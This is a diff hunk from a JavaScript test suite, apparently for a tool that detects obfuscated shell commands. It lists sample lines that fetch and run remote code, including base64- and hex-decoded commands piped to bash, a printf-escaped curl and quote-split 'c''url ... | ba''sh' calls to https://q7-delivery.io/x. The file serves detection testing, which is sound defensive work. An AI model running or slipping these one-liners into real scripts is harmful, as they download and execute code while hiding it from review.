@@ -310,7 +310,7 @@ describe("hides the code that it runs", () => {
     ["shell base64", "a.sh", `echo ${base64(command)} | base64 --decode | bash`],
     ["shell hexadecimal", "a.sh", `echo ${hex(command)} | xxd -r -p | sh`],
     ["shell printf", "a.sh", "$(printf '\\x63\\x75\\x72\\x6c') -s https://q7-delivery.io/x -o /dev/null"],
-    ["shell variables", "a.sh", 'c=cu; c="${c}rl"; $c -s "$u" | sh'],
+    ["shell variables", "a.sh", 'c=cu; c="\x24{c}rl"; $c -s "$u" | sh'],
     ["shell quotes", "a.sh", "c''url -s https://q7-delivery.io/x | ba''sh"],
     [
       "PowerShell encoded",
